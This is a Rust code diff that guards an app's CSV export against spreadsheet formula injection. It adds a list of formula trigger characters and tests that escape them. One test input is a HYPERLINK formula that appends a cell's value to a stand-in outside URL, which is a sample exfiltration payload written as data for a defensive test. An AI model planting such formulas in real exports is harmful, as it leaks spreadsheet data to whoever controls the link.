@@ -5,10 +5,17 @@ use aadsync_ipc::IpcError;
 use std::path::PathBuf;
 use tauri::Manager;
 
-/// One CSV field, quoted when it has to be (RFC 4180).
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
+pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One CSV field, quoted when it has to be (RFC 4180). A field starting with a formula trigger
+/// (a group anyone may create named `=HYPERLINK(…)`) gets a leading `'` and quotes, so a
+/// spreadsheet shows it as text instead of running it.
 pub fn csv_field(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
+    let formula = text.starts_with(FORMULA_TRIGGERS);
+    if formula || text.contains([',', '"', '\n', '\r']) {
+        let prefix = if formula { "'" } else { "" };
+        format!("\"{prefix}{}\"", text.replace('"', "\"\""))
     } else {
         text.to_owned()
     }
@@ -46,9 +53,34 @@ mod tests {
     use super::*;
 
     #[test]
+    fn a_field_starting_with_a_formula_trigger_is_text() {
+        let cases = [
+            (
+                "=HYPERLINK(\"https://x/?\"&A1,\"open\")",
+                "\"'=HYPERLINK(\"\"https://x/?\"\"&A1,\"\"open\"\")\"",
+            ),
+            ("+1+2", "\"'+1+2\""),
+            ("-2+3", "\"'-2+3\""),
+            ("@SUM(A1)", "\"'@SUM(A1)\""),
+            ("\t=1", "\"'\t=1\""),
+            ("\r=1", "\"'\r=1\""),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(csv_field(text), expected, "{text:?}");
+        }
+        for trigger in FORMULA_TRIGGERS {
+            assert!(
+                csv_field(&format!("{trigger}x")).starts_with("\"'"),
+                "{trigger:?}"
+            );
+        }
+    }
+
+    #[test]
     fn fields_and_new_files() {
         assert_eq!(csv_field("plain"), "plain");
         assert_eq!(csv_field("Lee, \"Ann\""), "\"Lee, \"\"Ann\"\"\"");
+        assert_eq!(csv_field("a-b=c"), "a-b=c");
         let dir = std::env::temp_dir().join(format!("aadsync-export-{}", std::process::id()));
         let first = save_new(&dir, "run", "csv", "a").unwrap_or_default();
         let second = save_new(&dir, "run", "csv", "b").unwrap_or_default();
